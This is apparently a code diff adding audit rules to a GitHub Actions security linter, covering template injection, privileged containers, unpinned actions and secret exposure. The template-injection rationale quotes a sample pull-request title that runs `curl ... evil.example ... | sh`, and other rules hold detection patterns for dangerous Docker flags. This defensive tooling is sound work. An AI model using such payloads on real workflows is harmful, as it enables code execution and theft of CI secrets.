+  check: "hardening",
+  title: "Deprecated insecure workflow commands enabled",
+  severity: "high",
+  description: "Reports `ACTIONS_ALLOW_UNSECURE_COMMANDS` set to anything but `false` in a workflow, job or step `env:`, or exported from a `run:` script.",
+  rationale: "The variable re-enables the `::set-env::` and `::add-path::` workflow commands that GitHub disabled in 2020 (CVE-2020-15228): any process that prints to the job log, for example a test printing a pull request title or a dependency's output, can then set environment variables such as `NODE_OPTIONS` or `LD_PRELOAD` and prepend to `PATH`, taking over the following steps.",
+  fix: 'Remove the variable and use environment files instead of the old commands:\n\n```yaml\n- run: |\n    echo "TOOL_HOME=$PWD/tool" >> "$GITHUB_ENV"\n    echo "$PWD/tool/bin" >> "$GITHUB_PATH"\n```\n\nUpdate or replace any action that still needs `set-env`.',
+  references: [
+    `${ZIZMOR_AUDITS}#insecure-commands`,
+    "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/",
+    "https://github.com/advisories/GHSA-mfwh-5m23-j46w"
+  ]
+};
+var NAME = "ACTIONS_ALLOW_UNSECURE_COMMANDS";
+var OFF = /* @__PURE__ */ new Set(["false", "0", ""]);
+function run8(workflow) {
+  const doc2 = workflow.doc;
+  const findings = [];
+  const keys = new KeyCounter();
+  const checkEnv = (env, where, key, job) => {
+    for (const e of entries(env, doc2)) {
+      if (e.key !== NAME) continue;
+      const value = scalarText(e.value, doc2)?.trim().toLowerCase() ?? "";
+      if (OFF.has(value)) continue;
+      findings.push(
+        makeFinding(workflow, rule8, {
+          message: `${where} sets ${NAME}, re-enabling the set-env and add-path workflow commands.`,
+          span: nodeSpan(workflow, e.keyNode),
+          ...job ? { job } : {},
+          key: keys.next(`${key}:env`),
+          fix: `Remove ${NAME} and write to $GITHUB_ENV / $GITHUB_PATH instead.`
+        })
+      );
+    }
+  };
+  checkEnv(workflow.env, "The workflow env", "workflow", void 0);
+  for (const job of workflow.jobs) {
+    checkEnv(job.env, `Job ${job.id}`, job.id, job);
+    for (const step of job.steps) {
+      checkEnv(
+        step.env,
+        `Step ${step.label} of ${job.composite ? "the composite action" : `job ${job.id}`}`,
+        stepKey(job, step),
+        job
+      );
+      if (!step.run?.value.includes(NAME)) continue;
+      for (const line of logicalLines(step.run.value)) {
+        const m = new RegExp(String.raw`\b${NAME}\s*=\s*["']?(\w*)`).exec(line.text);
+        if (!m || OFF.has((m[1] ?? "").toLowerCase())) continue;
+        findings.push(
+          makeFinding(workflow, rule8, {
+            message: `Step ${step.label} exports ${NAME}=${m[1]}, re-enabling the set-env and add-path workflow commands.`,
+            span: spanInScalar(workflow, step.run.node, step.run.value, scriptOffset(line, m.index), NAME.length),
+            job,
+            key: keys.next(`${stepKey(job, step)}:run`),
+            fix: `Remove ${NAME} and write to $GITHUB_ENV / $GITHUB_PATH instead.`
+          })
+        );
+      }
+    }
+  }
+  return findings;
+}
+var insecureCommands = { rule: rule8, run: run8 };
+
+// src/checks/hardening/github-actions/overprovisioned-secrets.ts
+var rule9 = {
+  id: "gha/overprovisioned-secrets",
+  check: "hardening",
+  title: "Every secret is expanded at once",
+  severity: "medium",
+  description: "Reports expressions that serialize the whole `secrets` context (`${{ toJSON(secrets) }}`) or index it with a computed key (`${{ secrets[inputs.name] }}`), anywhere in a workflow or composite action.",
+  rationale: "GitHub only sends a job the secrets its expressions name. `toJSON(secrets)` or a computed index names all of them, so every repository, environment and organisation secret is loaded into the runner, where any step, dependency or injection bug can read them; log masking is easily bypassed (base64, splitting).",
+  fix: "Name each secret the step needs:\n\n```yaml\n# Instead of\n- run: ./deploy.sh\n  env:\n    ALL_SECRETS: ${{ toJSON(secrets) }}\n\n# write\n- run: ./deploy.sh\n  env:\n    DEPLOY_TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n```",
+  references: [`${ZIZMOR_AUDITS}#overprovisioned-secrets`, GITHUB_HARDENING]
+};
+function overprovisions(expr) {
+  for (const call of calls(expr)) {
+    if (call.args.some((a) => a.kind === "context" && a.parts.length === 1 && a.parts[0] === "secrets"))
+      return `${call.name === "tojson" ? "toJSON" : call.name}(secrets)`;
+  }
+  return containsComputedSecret(expr) ? "secrets[<computed>]" : void 0;
+}
+function containsComputedSecret(expr) {
+  switch (expr.kind) {
+    case "context":
+      return expr.parts[0] === "secrets" && expr.parts[1] === "*";
+    case "call":
+      return expr.args.some(containsComputedSecret);
+    case "not":
+      return containsComputedSecret(expr.operand);
+    case "binary":
+      return containsComputedSecret(expr.left) || containsComputedSecret(expr.right);
+    case "access":
+      return containsComputedSecret(expr.base);
+    default:
+      return false;
+  }
+}
+function run9(workflow) {
+  const findings = [];
+  const keys = new KeyCounter();
+  walkScalars(workflow.root, workflow.doc, (scalar, value, path8) => {
+    if (!/secrets/i.test(value)) return;
+    for (const fenced of findExpressions(value)) {
+      const parsed = fenced.closed ? parseExpression(fenced.body) : void 0;
+      if (!parsed?.ok) continue;
+      const what = overprovisions(parsed.expr);
+      if (!what) continue;
+      const job = path8[0] === "jobs" ? workflow.jobs.find((j) => j.id === path8[1]) : void 0;
+      findings.push(
+        makeFinding(workflow, rule9, {
+          message: `\`${what}\` at ${path8.join(".")} loads every secret of the repository and organisation into the job.`,
+          span: spanInScalar(workflow, scalar, value, fenced.start, 3),
+          ...job ? { job } : {},
+          key: keys.next(`${path8.join(".")}:${what}`),
+          fix: "Reference the individual secrets the step needs, e.g. `${{ secrets.DEPLOY_TOKEN }}`."
+        })
+      );
+    }
+  });
+  return findings;
+}
+var overprovisionedSecrets = { rule: rule9, run: run9 };
+
+// src/checks/hardening/github-actions/privileged-build.ts
+var rule10 = {
+  id: "gha/privileged-build",
+  check: "hardening",
+  title: "Container run with host-level privileges in CI",
+  severity: "high",
+  description: "Reports `docker`/`podman`/`nerdctl` `run`, `create` and `exec` commands in `run:` scripts, and `container.options` / `services.<id>.options`, that give a container control of the runner: `--privileged`, a bind mount of the Docker socket (`-v /var/run/docker.sock:\u2026`, `--volume`, `--mount type=bind,source=/var/run/docker.sock`), `--cap-add=ALL` or `SYS_ADMIN` (high); `--pid=host`, `--net=host`/`--network=host`, `--ipc=host`, `--userns=host` and `--security-opt seccomp=unconfined` / `apparmor=unconfined` / `label=disable` (medium).",
+  rationale: "Each of these removes the isolation between the container and the runner. Code in a privileged container or with the Docker socket is root on the host: it can read other jobs' workspaces and credentials, persist on a self-hosted runner, and tamper with images built later. Build and test steps run dependencies and, on pull requests, contributed code, so they should never get that power.",
+  fix: "Drop the flag; grant only what the build needs, or use a rootless builder:\n\n```yaml\n# Instead of\n- run: docker run --privileged -v /var/run/docker.sock:/var/run/docker.sock builder make\n\n# build images without a daemon socket\n- uses: docker/setup-buildx-action@<sha>\n- uses: docker/build-push-action@<sha>\n  with:\n    push: false\n```",
+  references: [
+    "https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities",
+    "https://docs.docker.com/engine/security/protect-access/",
+    "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
+  ]
+};
+var SOCK = String.raw`(?:/var)?/run/docker\.sock`;
+var FLAGS = [
+  { pattern: /(?:^|\s)(--privileged)(?:=true)?(?=\s|$|["'])/, severity: "high", what: "privileged mode" },
+  {
+    pattern: new RegExp(String.raw`(?:^|\s)(-v|--volume)(?:\s+|=)["']?${SOCK}(?::|["'\s]|$)`),
+    severity: "high",
+    what: "the Docker socket mounted"
+  },
+  {
+    pattern: new RegExp(String.raw`(?:^|\s)(--mount)(?:\s+|=)["']?[^\s"']*\b(?:source|src)=${SOCK}\b`),
+    severity: "high",
+    what: "the Docker socket mounted"
+  },
+  {
+    pattern: /(?:^|\s)(--cap-add)(?:\s+|=)["']?(?:CAP_)?(?:ALL|SYS_ADMIN)\b/i,
+    severity: "high",
+    what: "all or SYS_ADMIN capabilities"
+  },
+  {
+    pattern: /(?:^|\s)(--security-opt)(?:\s+|=)["']?(?:(?:seccomp|apparmor|systempaths)[=:]unconfined|label[=:]disable)\b/,
+    severity: "medium",
+    what: "a security profile disabled"
+  },
+  { pattern: /(?:^|\s)(--pid)(?:\s+|=)["']?host\b/, severity: "medium", what: "the host's process namespace" },
+  {
+    pattern: /(?:^|\s)(--net|--network)(?:\s+|=)["']?host\b/,
+    severity: "medium",
+    what: "the host's network namespace"
+  },
+  { pattern: /(?:^|\s)(--ipc)(?:\s+|=)["']?host\b/, severity: "medium", what: "the host's IPC namespace" },
+  { pattern: /(?:^|\s)(--userns)(?:\s+|=)["']?host\b/, severity: "medium", what: "the host's user namespace" }
+];
+var CONTAINER_COMMAND = /\b(?:docker|podman|nerdctl)\b(?:\s+(?:-\S+|container|compose))*\s+(?:run|create|exec)\b/;
+function privilegedFlags(text) {
+  const hits = [];
+  for (const { pattern, severity, what } of FLAGS) {
+    const m = pattern.exec(text);
+    if (m) hits.push({ index: m.index + m[0].indexOf(m[1]), flag: m[1], severity, what });
+  }
+  return hits;
+}
+function run10(workflow) {
+  const findings = [];
+  const keys = new KeyCounter();
+  const doc2 = workflow.doc;
+  const report2 = (job, value, offset, hit, where, key) => {
+    findings.push(
+      makeFinding(workflow, rule10, {
+        severity: hit.severity,
+        message: `${where} starts a container with ${hit.what} (\`${hit.flag}\`), giving it control of the runner.`,
+        span: spanInScalar(workflow, value.node, value.value, offset, hit.flag.length),
+        job,
+        key: keys.next(`${key}:${hit.flag}`),
+        fix: `Remove \`${hit.flag}\` and grant only the specific access the build needs.`
+      })
+    );
+  };
+  for (const job of workflow.jobs) {
+    const optionHolders = [
+      { where: `The container of job ${job.id}`, key: `${job.id}:container`, map: asMap(job.container?.value, doc2) },
+      ...entries(job.services, doc2).map((s) => ({
+        where: `Service ${s.key} of job ${job.id}`,
+        key: `${job.id}:service:${s.key}`,
+        map: asMap(s.value, doc2)
+      }))
+    ];
+    for (const holder of optionHolders) {
+      const options = stringValue(get(holder.map, "options", doc2)?.value, doc2);
+      if (!options) continue;
+      for (const hit of privilegedFlags(options.value)) report2(job, options, hit.index, hit, holder.where, holder.key);
+    }
+    for (const step of job.steps) {
+      if (!step.run) continue;
+      for (const line of logicalLines(step.run.value)) {
+        const command = CONTAINER_COMMAND.exec(line.text);
+        if (!command) continue;
+        const rest = line.text.slice(command.index);
+        for (const hit of privilegedFlags(rest)) {
+          const where = `Step ${step.label} of ${job.composite ? "the composite action" : `job ${job.id}`}`;
+          report2(job, step.run, scriptOffset(line, command.index + hit.index), hit, where, stepKey(job, step));
+        }
+      }
+    }
+  }
+  return findings;
+}
+var privilegedBuild = { rule: rule10, run: run10 };
+
+// src/checks/hardening/github-actions/secrets-inherit.ts
+var rule11 = {
+  id: "gha/secrets-inherit",
+  check: "hardening",
+  title: "Reusable workflow receives every secret",
+  severity: "medium",
+  description: "Reports reusable workflow calls (`jobs.<id>.uses`, local or in another repository) that pass `secrets: inherit` instead of naming the secrets the called workflow declares.",
+  rationale: "`secrets: inherit` hands the called workflow every secret the caller can see: repository, environment and organisation secrets, including ones it never needs. If the called workflow is compromised, moved to a new ref, or has an injection bug, all of them leak instead of the one or two it uses.",
+  fix: "Pass only the secrets the called workflow declares under `on.workflow_call.secrets`:\n\n```yaml\njobs:\n  deploy:\n    uses: acme/workflows/.github/workflows/deploy.yml@<sha>\n    secrets:\n      DEPLOY_KEY: ${{ secrets.DEPLOY_KEY }}\n```",
+  references: [
+    `${ZIZMOR_AUDITS}#secrets-inherit`,
+    "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idsecretsinherit",
+    GITHUB_HARDENING
+  ]
+};
+function run11(workflow) {
+  return workflow.jobs.flatMap((job) => {
+    if (!job.secrets || scalarText(job.secrets.value, workflow.doc)?.trim() !== "inherit") return [];
+    return [
+      makeFinding(workflow, rule11, {
+        message: `Job ${job.id} passes every secret to ${job.uses ? `\`${job.uses.value}\`` : "the called workflow"} with \`secrets: inherit\`.`,
+        span: nodeSpan(workflow, job.secrets.value),
+        job,
+        key: job.id,
+        fix: "List the needed secrets explicitly under `secrets:` instead of `inherit`."
+      })
+    ];
+  });
+}
+var secretsInherit = { rule: rule11, run: run11 };
+
+// src/checks/hardening/github-actions/self-hosted-runner.ts
+var rule12 = {
+  id: "gha/self-hosted-runner",
+  check: "hardening",
+  title: "Self-hosted runner reachable from public events",
+  severity: "high",
+  description: "Reports jobs whose `runs-on` includes the `self-hosted` label (as a string, in a list, under `labels:`, or through a `matrix` value or a literal inside an expression) in workflows that people outside the repository can trigger: `pull_request`, `pull_request_target`, `pull_request_review(_comment)` (high), `issue_comment`, `issues`, `discussion(_comment)`, `fork`, `watch` (medium). Runner groups without the `self-hosted` label are not reported, because GitHub-hosted larger runners use groups too.",
+  rationale: "Self-hosted runners are not wiped between jobs. A fork pull request that runs on one executes the contributor's code on your machine: it can install a persistent backdoor, read credentials left by other jobs (cloud metadata, Docker credentials, caches), and tamper with later release builds that run on the same runner. GitHub advises never to use self-hosted runners with public repositories.",
+  fix: "Run untrusted events on GitHub-hosted runners, and keep self-hosted runners for trusted events (pushes to protected branches, releases) or use ephemeral, isolated runners (`--ephemeral`, one VM per job):\n\n```yaml\non: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest   # not [self-hosted, linux]\n```\n\nAlso require approval for workflows from outside collaborators in the repository settings.",
+  references: [
+    `${ZIZMOR_AUDITS}#self-hosted-runner`,
+    GITHUB_HARDENING,
+    "https://docs.github.com/en/actions/how-tos/manage-runners/self-hosted-runners/add-runners"
+  ]
+};
+var HIGH = /* @__PURE__ */ new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
+function selfHostedLabel(job, workflow) {
+  const doc2 = workflow.doc;
+  const value = job.runsOn?.value;
+  const labels = asMap(value, doc2) ? stringList(get(asMap(value, doc2), "labels", doc2)?.value, doc2) : stringList(value, doc2);
+  for (const label of labels) {
+    if (label.text.trim().toLowerCase() === "self-hosted") return label.node;
+    const fenced = findExpressions(label.text);
+    const parsed = fenced.length === 1 && fenced[0].closed ? parseExpression(fenced[0].body) : void 0;
+    for (const leaf of (parsed?.ok ? valueLeaves(parsed.expr) : void 0) ?? []) {
+      if (leaf.kind === "literal" && typeof leaf.value === "string" && leaf.value.trim().toLowerCase() === "self-hosted")
+        return label.node;
+      if (leaf.kind !== "context" || leaf.parts[0] !== "matrix" || leaf.parts.length !== 2) continue;
+      const values = matrixValues(job, leaf.parts[1], doc2) ?? [];
+      const hit = values.find((v) => v.value.trim().toLowerCase() === "self-hosted");
+      if (hit) return hit.node;
+    }
+  }
+  return void 0;
+}
+function run12(workflow) {
+  if (workflow.kind !== "workflow") return [];
+  const triggers = workflow.triggers.filter((t) => PUBLIC_TRIGGERS.includes(t.name)).map((t) => t.name);
+  if (triggers.length === 0) return [];
+  const severity = triggers.some((t) => HIGH.has(t)) ? "high" : "medium";
+  const findings = [];
+  const keys = new KeyCounter();
+  for (const job of workflow.jobs) {
+    const label = selfHostedLabel(job, workflow);
+    if (!label) continue;
+    findings.push(
+      makeFinding(workflow, rule12, {
+        severity,
+        message: `Job ${job.id} runs on a self-hosted runner in a workflow triggered by ${triggers.map((t) => `\`${t}\``).join(", ")}, which outside contributors can fire.`,
+        span: nodeSpan(workflow, label),
+        job,
+        key: keys.next(job.id),
+        fix: "Use a GitHub-hosted runner for this job, or an ephemeral isolated runner and approval for outside contributors."
+      })
+    );
+  }
+  return findings;
+}
+var selfHostedRunner = { rule: rule12, run: run12 };
+
+// src/checks/hardening/github-actions/template-injection.ts
+var rule13 = {
+  id: "gha/template-injection",
+  check: "hardening",
+  title: "Attacker-controlled expression expanded into code",
+  severity: "high",
+  description: "Finds `${{ \u2026 }}` expressions inside `run:` scripts and inside code inputs of script actions (`actions/github-script` `script:` and similar) whose value an attacker can choose: pull request, issue, comment, review and discussion titles and bodies, branch names (`github.head_ref`, `github.event.pull_request.head.ref`), commit messages and author names and e-mails, and any other `github.event.*` field that is free text (the list follows zizmor's context capabilities). String-typed `workflow_dispatch` / `workflow_call` inputs and composite-action inputs are reported at medium severity, and `steps.*.outputs` / `needs.*.outputs` and run-time matrices at low severity, because they often carry such data one hop removed. `${{ env.NAME }}` is followed to the `env:` that sets it (step, job, then workflow) and rated like the value there; a name set nowhere (likely written to `$GITHUB_ENV` at run time) is low. Contexts that only feed a comparison or a boolean function (`contains(github.event.issue.title, 'x')`) are not reported.",
+  rationale: 'GitHub substitutes `${{ }}` into the script text before the shell or JavaScript runtime sees it. A pull request titled `x"; curl -sSf https://evil.example/x | sh; echo "` therefore becomes part of the script and runs with the job\'s token and secrets. In `pull_request_target`, `issue_comment` or `workflow_run` workflows this gives anyone with a GitHub account code execution with write access to the repository; it is the most common way GitHub Actions workflows are compromised.',
+  fix: 'Never expand untrusted data into code. Pass it through an environment variable and quote the variable, so the shell treats it as data:\n\n```yaml\n# Vulnerable\n- run: echo "${{ github.event.pull_request.title }}"\n\n# Fixed\n- env:\n    PR_TITLE: ${{ github.event.pull_request.title }}\n  run: echo "$PR_TITLE"\n```\n\nFor `actions/github-script`, read the value from `context` (`context.payload.pull_request.title`) or from `process.env` instead of expanding it into the script.',
+  references: [
+    `${ZIZMOR_AUDITS}#template-injection`,
+    `${SCORECARD_CHECKS}#dangerous-workflow`,
+    "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+    GITHUB_SCRIPT_INJECTIONS,
+    GITHUB_HARDENING
+  ]
+};
+var CODE_INPUTS = {
+  "actions/github-script": ["script"],
+  "amadevus/pwsh-script": ["script"],
+  "jannekem/run-python-script-action": ["script"],
+  "cardinalby/js-eval-action": ["expression"]
+};
+function sinks(step, workflow) {
+  const out = [];
+  if (step.run) out.push({ name: "run", value: step.run });
+  if (step.uses) {
+    const inputs = CODE_INPUTS[usesTarget(step.uses.value)] ?? [];
+    for (const input of inputs) {
+      const value = stringValue(step.with.get(input)?.value, workflow.doc);
+      if (value) out.push({ name: `with.${input}`, value });
+    }
+  }
+  return out;
+}
+function run13(workflow) {
+  const findings = [];
+  const keys = new KeyCounter();
+  for (const job of workflow.jobs) {
+    for (const step of job.steps) {
+      for (const sink of sinks(step, workflow)) {
+        for (const tainted of taintedExpressions(sink.value.value, workflow, job, step)) {
+          const { expression, contexts } = tainted;
+          const worst = contexts[0];
+          const list = contexts.map((c) => `\`${c.context}\` ${c.why}`).join("; ");
+          const where = sink.name === "run" ? "a `run:` script" : `the \`${sink.name}\` code input of ${usesTarget(step.uses.value)}`;
+          const variable = envVarName(worst.context);
+          findings.push(
+            makeFinding(workflow, rule13, {
+              severity: tainted.severity,
+              message: `Step ${step.label} of ${job.composite ? "the composite action" : `job ${job.id}`} expands \`\${{${expression.body}}}\` into ${where}: ${list}.`,
+              span: spanInScalar(workflow, sink.value.node, sink.value.value, expression.start, 3),
+              job,
+              key: keys.next(`${stepKey(job, step)}/${sink.name}/${contexts.map((c) => c.context).join(",")}`),
+              fix: sink.name === "run" ? `Add \`${variable}: \${{ ${worst.context} }}\` under the step's \`env:\` and use "$${variable}" in the script.` : `Set \`${variable}: \${{ ${worst.context} }}\` under the step's \`env:\` and read process.env.${variable} in the script.`
+            })
+          );
+        }
+      }
+    }
+  }
+  return findings;
+}
+var templateInjection = { rule: rule13, run: run13 };
+
+// src/checks/hardening/github-actions/unpinned-images.ts
+var rule14 = {
+  id: "gha/unpinned-images",
+  check: "hardening",
+  title: "Job container or service image not pinned by digest",
+  severity: "medium",
+  description: "Reports job `container:` images and `services.<id>.image` without an `@sha256:` digest: high for an image with no tag or `:latest`, medium for a tag. An image given as `${{ matrix.<key> }}` is checked for every literal value of that matrix key, and `${{ cond && 'image:a' || 'image:b' }}` for each literal; other expressions cannot be resolved and are not reported.",
+  rationale: "The job runs its steps inside the container image, with the job's token and secrets. A tag can be re-pushed by whoever controls the image repository (or its registry credentials), silently changing the environment every build runs in. A digest names exactly one image.",
+  fix: "Pin the digest, keeping the tag for readability:\n\n```yaml\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container:\n      image: node:22-bookworm@sha256:<digest>\n    services:\n      db:\n        image: postgres:16@sha256:<digest>\n```\n\nResolve a digest with `docker buildx imagetools inspect node:22-bookworm` or `crane digest`.",
+  references: [`${ZIZMOR_AUDITS}#unpinned-images`, `${SCORECARD_CHECKS}#pinned-dependencies`]
+};
+function judgeImage(image) {
+  const value = image.trim();
+  if (value === "" || /@sha256:[0-9a-f]{64}$/i.test(value)) return void 0;
+  const tag = /:([^/:@]+)$/.exec(value)?.[1];
+  if (tag === void 0 || tag === "latest")
+    return {
+      severity: "high",
+      message: `\`${value}\` is ${tag ? "the mutable `latest` tag" : "unpinned (implicitly :latest)"}`
+    };
+  return { severity: "medium", message: `\`${value}\` is pinned by tag, not by digest` };
+}
+function candidates(node, job, workflow) {
+  const text = scalarText(node, workflow.doc);
+  if (text === void 0 || !node) return [];
+  if (!text.includes("${{")) return [{ image: text, node }];
+  const fenced = findExpressions(text);
+  const only = fenced[0];
+  if (fenced.length !== 1 || !only || text.trim() !== text.slice(only.start, only.end)) return [];
+  const parsed = parseExpression(only.body);
+  const leaves = parsed.ok ? valueLeaves(parsed.expr) : void 0;
+  return (leaves ?? []).flatMap((leaf) => {
+    if (leaf.kind === "literal")
+      return typeof leaf.value === "string" ? [{ image: leaf.value, node, via: "expression" }] : [];
+    if (leaf.kind !== "context" || leaf.parts[0] !== "matrix" || leaf.parts.length !== 2) return [];
+    const key = leaf.parts[1];
+    return (matrixValues(job, key, workflow.doc) ?? []).map((v) => ({
+      image: v.value,
+      node: v.node,
+      via: `matrix.${key}`
+    }));
+  });
+}
+function run14(workflow) {
+  const findings = [];
+  const keys = new KeyCounter();
+  const doc2 = workflow.doc;
+  for (const job of workflow.jobs) {
+    const images = [];
+    if (job.container?.value) {
+      const node = asScalar(job.container.value, doc2) ? job.container.value : get(asMap(job.container.value, doc2), "image", doc2)?.value;
+      images.push({ where: "container", node });
+    }
+    for (const service of entries(job.services, doc2)) {
+      images.push({ where: `service ${service.key}`, node: get(asMap(service.value, doc2), "image", doc2)?.value });
+    }
+    for (const { where, node } of images) {
+      for (const candidate of candidates(node, job, workflow)) {
+        const verdict = judgeImage(candidate.image);
+        if (!verdict) continue;
+        findings.push(
+          makeFinding(workflow, rule14, {
+            severity: verdict.severity,
+            message: `The ${where} image of job ${job.id}${candidate.via ? ` (from ${candidate.via})` : ""}: ${verdict.message}.`,
+            span: nodeSpan(workflow, candidate.node),
+            job,
+            key: keys.next(`${job.id}:${where}:${candidate.image.trim()}`),
+            fix: `Pin the digest: ${candidate.image.trim().replace(/:[^/:@]+$/, "")}:<tag>@sha256:<digest>`
+          })
+        );
+      }
+    }
+  }
+  return findings;
+}
+var unpinnedImages = { rule: rule14, run: run14 };
+
+// src/checks/hardening/github-actions/unpinned-uses.ts
+var rule15 = {
+  id: "gha/unpinned-uses",
+  check: "hardening",
+  title: "Action or reusable workflow not pinned to a commit SHA",
+  severity: "medium",
+  description: "Reports `uses:` of third-party actions (steps of workflows and composite actions) and of reusable workflows (`jobs.<id>.uses`) that are not pinned to a full 40-character commit SHA, and `docker://` images without an `@sha256:` digest. A tag or branch is medium; a `uses:` with no ref at all, or a `docker://` image with no tag either, is high. Local `./` actions and workflows are not reported. Actions matching `checks.hardening.allowed-unpinned` in the policy (globs such as `actions/*` or `github/codeql-action`) may use tags.",
+  rationale: "Tags and branches are mutable: whoever controls the action's repository (its maintainer, or an attacker who stole their credentials) can point `v4` at new code, and every workflow using it runs that code on its next run, with its secrets. This happened to `tj-actions/changed-files` in March 2025, when every tag was moved to a commit that dumped CI secrets into public logs. A commit SHA cannot be moved.",
+  fix: 'Pin the full commit SHA and keep the version in a comment so Dependabot or Renovate can update it:\n\n```yaml\n- uses: actions/checkout@08eba0b27e820071cde6df949e0beb9ba4906955 # v4.3.0\n- uses: docker://alpine@sha256:<digest>   # alpine:3.20\n```\n\nTo accept tags for owners you trust, list them in `.containersec.yml`:\n\n```yaml\nchecks:\n  hardening:\n    allowed-unpinned: ["actions/*", "github/codeql-action"]\n```',
+  references: [`${ZIZMOR_AUDITS}#unpinned-uses`, `${SCORECARD_CHECKS}#pinned-dependencies`, GITHUB_HARDENING]
+};
+var FULL_SHA = /^[0-9a-f]{40}$/i;
+function judgeUses(uses, allowed) {
+  const value = uses.trim();
+  if (value === "" || value.startsWith("./") || value.startsWith(".\\") || value.includes("${{")) return void 0;
+  if (value.startsWith("docker://")) {
+    const image = value.slice("docker://".length);
+    if (/@sha256:[0-9a-f]{64}$/i.test(image)) return void 0;
+    const tagged = /:[^/]+$/.test(image);
+    return {
+      severity: tagged ? "medium" : "high",
+      message: `\`${value}\` runs a container image by ${tagged ? "tag" : "name only (implicitly :latest)"}, not by digest.`,
+      fix: `Pin the image digest: docker://${image.replace(/:[^/]+$/, "")}@sha256:<digest>`
+    };
+  }
+  const at = value.lastIndexOf("@");
+  const target = at >= 0 ? value.slice(0, at) : value;
+  const ref = at >= 0 ? value.slice(at + 1) : "";
+  if (FULL_SHA.test(ref)) return void 0;
+  if (isAllowed(target, allowed)) return void 0;
+  if (ref === "") {
+    return {
+      severity: "high",
+      message: `\`${value}\` names no version at all.`,
+      fix: `Pin a commit: ${target}@<40-character commit SHA> # vX.Y.Z`
+    };
+  }
+  return {
+    severity: "medium",
+    message: `\`${value}\` is pinned to \`${ref}\`, a tag or branch that can be moved to different code.`,
+    fix: `Pin the commit that ${ref} points to: ${target}@<40-character commit SHA> # ${ref}`
+  };
+}
+function isAllowed(target, allowed) {
+  const lower = target.toLowerCase();
+  const repo = lower.split("/").slice(0, 2).join("/");
+  return allowed.some((glob) => {
+    const pattern = glob.toLowerCase();
+    return minimatch(repo, pattern) || minimatch(lower, pattern);
+  });
+}
+function run15(workflow, options) {
+  const findings = [];
+  const keys = new KeyCounter();
+  const check2 = (uses, job, what) => {
+    const verdict = judgeUses(uses.value, options.allowedUnpinned);
+    if (!verdict) return;
+    findings.push(
+      makeFinding(workflow, rule15, {
+        severity: verdict.severity,
+        message: `${what}: ${verdict.message}`,
+        span: nodeSpan(workflow, uses.node),
+        job,
+        key: keys.next(`${job.id}:${uses.value.trim()}`),
+        fix: verdict.fix
+      })
+    );
+  };
+  for (const job of workflow.jobs) {
+    if (job.uses) check2(job.uses, job, `Job ${job.id} calls a reusable workflow`);
+    for (const step of job.steps) {
+      if (step.uses)
+        check2(step.uses, job, `Step ${step.label} of ${job.composite ? "the composite action" : `job ${job.id}`}`);
+    }
+  }
+  return findings;
+}
+var unpinnedUses = { rule: rule15, run: run15 };
+
+// src/checks/hardening/github-actions/unsound-condition.ts
+var rule16 = {
+  id: "gha/unsound-condition",
+  check: "hardening",
+  title: "Condition is always true",
+  severity: "high",
+  description: "Reports job and step `if:` conditions that contain `${{ \u2026 }}` together with any other text, including the trailing newline of a `|` or `>` block scalar or a second expression: `if: |` followed by `${{ github.actor == 'dependabot[bot]' }}`, or `if: ${{ a }} && ${{ b }}`.",
+  rationale: 'When an `if:` contains text outside the fence, GitHub evaluates the whole value as a string template: the result is the text `false\\n` or `true && false`, a non-empty string, which is truthy. The job or step always runs, so a guard such as "only for the bot", "only on main" or "only for maintainers" silently protects nothing, and privileged steps run for everyone.',
+  fix: "Write the condition as one bare expression, without a block scalar or with the strip indicator `|-`:\n\n```yaml\n# Always true: the value is the expression's result plus a newline\n- if: |\n    ${{ github.event_name == 'push' }}\n  run: ./deploy.sh\n\n# Correct\n- if: github.event_name == 'push'\n  run: ./deploy.sh\n- if: |-\n    ${{ github.event_name == 'push' }}\n  run: ./deploy.sh\n```",
+  references: [
+    `${ZIZMOR_AUDITS}#unsound-condition`,
+    "https://docs.github.com/en/actions/reference/workflows-and-actions/expressions#example-expression-in-an-if-conditional"
+  ]
+};
+function isUnsound(value) {
+  const fenced = findExpressions(value);
+  const first = fenced[0];
+  if (!first) return false;
+  return fenced.length > 1 || first.start !== 0 || first.end !== value.length;
+}
+function run16(workflow) {
+  const findings = [];
+  const keys = new KeyCounter();
+  const check2 = (entry, where, key, job) => {
+    const scalar = asScalar(entry?.value, workflow.doc);
+    if (!scalar || typeof scalar.value !== "string" || !isUnsound(scalar.value)) return;
+    const block = scalar.type === "BLOCK_LITERAL" || scalar.type === "BLOCK_FOLDED";
+    findings.push(
+      makeFinding(workflow, rule16, {
+        message: `The \`if:\` of ${where} mixes \${{ }} with other text${block ? " (the block scalar adds a trailing newline)" : ""}, so it evaluates to a non-empty string and is always true.`,
+        span: nodeSpan(workflow, scalar),
+        job,
+        key: keys.next(key),
+        fix: block ? "Use `|-` (or `>-`) or a plain `if:` with a bare expression." : "Write the condition as one bare expression without `${{ }}` fences."
+      })
+    );
+  };
+  for (const job of workflow.jobs) {
+    check2(job.if, `job ${job.id}`, job.id, job);
+    for (const step of job.steps) check2(step.if, `step ${step.label} of job ${job.id}`, stepKey(job, step), job);
+  }
+  return findings;
+}
+var unsoundCondition = { rule: rule16, run: run16 };
+
+// src/checks/hardening/github-actions/index.ts
+var githubActionsAudits = [
+  templateInjection,
+  dangerousTriggers,
+  excessivePermissions,
+  unpinnedUses,
+  unpinnedImages,
+  artipacked,
+  cachePoisoning,
+  githubEnv,
+  secretsInherit,
+  overprovisionedSecrets,
+  hardcodedContainerCredentials,
+  insecureCommands,
+  selfHostedRunner,
+  curlPipeShell,
+  privilegedBuild,
+  unsoundCondition
+];
+var PARSE_ERROR = hardeningCommonRules.find((r) => r.id === "hardening/parse-error");
+var githubActionsLinter = {
+  id: "github-actions",
+  rules: [...githubActionsAudits.map((a) => a.rule)],
+  matches: (path8) => isWorkflowPath(path8) || isActionPath(path8),
+  lint(files, context) {
+    const options = { allowedUnpinned: context.policy.checks?.hardening?.["allowed-unpinned"] ?? [] };
+    return files.flatMap((file) => lintFile(file, options));
+  }
+};
+function lintFile(file, options) {
